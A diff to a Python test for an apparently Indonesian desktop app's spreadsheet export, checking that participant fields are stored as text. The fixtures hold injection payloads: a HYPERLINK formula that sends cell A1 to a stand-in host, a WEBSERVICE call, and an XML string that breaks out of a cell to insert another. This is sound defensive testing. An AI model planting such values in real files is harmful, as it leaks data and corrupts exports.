@@ -23,6 +23,7 @@ from kudus_desktop.core.storage.sync_rules import has_forbidden
 from kudus_desktop.core.village.importing import ImportOptions, ImportService
 from tests.factories import make_draft, make_nik
 
+RICH = '<r><t>Jl. Mawar</t></r></is></c><c r="Z1" t="inlineStr"><is><r><t>disisipkan</t></r>'
 HOSTILE = {
     "address": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
     "occupation": '=WEBSERVICE("http://contoh.invalid")',
@@ -35,6 +36,8 @@ HOSTILE = {
 def hostile(service: ParticipantService) -> ParticipantService:
     service.create(make_draft(1, **HOSTILE))
     service.create(make_draft(2, address="-3+4"))
+    # What the writer's streaming mode would take for its own rich-text markup and copy unescaped.
+    service.create(make_draft(3, address=RICH))
     # A value stored before control characters were dropped at input (an older version, a file).
     with service.db.begin() as conn:
         conn.execute(
@@ -62,6 +65,7 @@ def test_roster_and_bpjs_list_hold_formulas_only_as_text(tmp_path: Path, hostile
         assert not any(c.data_type == "f" for c in found)
         values = [str(c.value) for c in found]
         assert any(v.startswith("-3+4") for v in values) and not any("\x07" in v or "\x1b" in v for v in values)
+        assert any(RICH in v for v in values), "markup-like text reads back as typed"
     assert any(HOSTILE["occupation"] == str(c.value) for c in cells(bpjs, "Pendaftaran"))
 
 
